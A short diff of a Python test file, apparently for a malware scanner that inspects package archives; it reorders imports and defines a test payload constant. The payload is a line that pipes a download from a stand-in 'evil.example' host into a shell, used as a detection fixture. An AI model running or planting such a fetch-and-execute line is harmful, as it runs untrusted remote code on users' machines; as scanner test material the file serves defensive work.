@@ -13,7 +13,9 @@ import gzip
 import random
 
 import pytest
-from archive_gen import (
+from dragonfly_hybrid import DistributionResult, Rules, Scanner
+
+from tests.archive_gen import (
     base256,
     gnu_long,
     gzip_member,
@@ -28,8 +30,7 @@ from archive_gen import (
     wheel,
     zip_of,
 )
-from dragonfly_hybrid import DistributionResult, Rules, Scanner
-from pip_oracle import name_matches, pip_view
+from tests.pip_oracle import name_matches, pip_view
 
 PAYLOAD = b"import os\nos.system('curl https://evil.example/x | sh')  # DFH-PAYLOAD\n"
 PAYLOAD_BIG = PAYLOAD + b"#" * 700 + b"\n"  # longer than one block
